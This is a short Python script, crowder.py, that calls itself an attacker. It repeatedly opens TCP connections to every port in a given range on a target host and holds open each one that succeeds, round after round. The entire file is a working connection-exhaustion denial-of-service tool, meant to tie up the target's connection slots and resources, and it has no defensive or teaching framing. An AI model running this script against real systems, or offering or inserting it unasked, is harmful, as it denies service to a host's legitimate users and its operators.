#!/usr/bin/env python3
"""An attacker: connects to all TCP ports of a range, round after round, and holds what lets it in.

    crowder.py TARGET FIRST-PORT LAST-PORT
"""

import select
import socket
import sys
import time

PATIENCE_S = 0.1


def begin(target, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
    sock.connect_ex((target, port))
    return sock


def main(target, first, last):
    held = []
    for number in range(1 << 30):
        tried = {begin(target, port): port for port in range(int(first), int(last) + 1)}
        time.sleep(PATIENCE_S)
        _, ready, _ = select.select([], list(tried), [], 0)
        for sock, port in tried.items():
            if sock in ready and sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                print("in", port, flush=True)
                held.append(sock)
            else:
                sock.close()
        print("round", number, flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
